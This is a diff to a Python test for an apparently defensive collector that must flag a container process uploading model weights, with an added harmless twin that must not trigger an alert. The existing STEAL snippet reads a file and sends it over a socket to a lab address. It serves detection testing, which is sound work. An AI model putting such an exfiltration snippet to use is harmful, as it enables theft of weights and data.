@@ -5,7 +5,8 @@ The "container" has its own network namespace routed through the lab's host name
 mount namespace where the weights are bind-mounted at another path (as a pod's volume), and a
 cgroup that says containerd/Kubernetes. A process in it reads the weights and uploads them; the
 collector must raise `exfiltration` naming the process, the weight file by its host path, the
-destination and the container.
+destination and the container. Its benign twin in the same pod (load the weights, push a little
+telemetry to the same place) raises nothing high or critical.
 """
 
 from __future__ import annotations
@@ -38,6 +39,17 @@ data = open(sys.argv[1], "rb").read()
 s = socket.create_connection((sys.argv[2], int(sys.argv[3])))
 s.sendall(data)
 s.close()
+"""
+
+
+# The benign twin: the same pod loads the weights (an inference server starting) and pushes a little
+# telemetry to the same place. It read the weights and it uploads, but not the weights' worth.
+LOAD_AND_REPORT = """import os, socket, sys
+data = open(sys.argv[1], "rb").read()
+s = socket.create_connection((sys.argv[2], int(sys.argv[3])))
+s.sendall(b"m" * 65536)
+s.close()
+print(os.getpid(), flush=True)
 """
 
 
@@ -81,6 +93,10 @@ def test_a_container_that_reads_and_uploads_the_weights_is_named_in_the_alert(la
         agent.wait_event("egress_sample", timeout=30)
         mark = len(agent.events)
 
+        twin = lab.run_ctr("sh", "-c", f"mount --bind {models} {volume} && exec {sys.executable} -c "
+                           f"'{LOAD_AND_REPORT}' {volume}/{weights.name} {lab.out_addr} {PORT}", check=False)
+        assert twin.returncode == 0, twin.stderr
+        twin_pid = int(twin.stdout.split()[0])
         steal = lab.run_ctr("sh", "-c", f"mount --bind {models} {volume} && exec {sys.executable} -c '{STEAL}' "
                             f"{volume}/{weights.name} {lab.out_addr} {PORT}", check=False)
         assert steal.returncode == 0, steal.stderr
@@ -101,6 +117,13 @@ def test_a_container_that_reads_and_uploads_the_weights_is_named_in_the_alert(la
             "".join(agent.stderr[-10:]))
         [alert] = alerted()
         ev = alert["evidence"]
+        assert ev["process"]["pid"] != twin_pid
+        # The twin's samples came first and were judged as they came: it raised nothing high or critical.
+        assert any(p["pid"] == twin_pid for e in agent.events if e["type"] == "egress_sample"
+                   for p in e["data"]["processes"]), "the twin's upload was not seen: it proves nothing"
+        loud = [a for a in pipe.store.alerts() if a["severity"] in ("high", "critical")
+                and a["evidence"].get("process", {}).get("pid") == twin_pid]
+        assert not loud, loud
         assert alert["severity"] in ("high", "critical")
         assert ev["process"]["name"].startswith("python")
         assert any(str(weights) in str(f) for f in ev["files"]), ev["files"]  # the host path, not the pod's
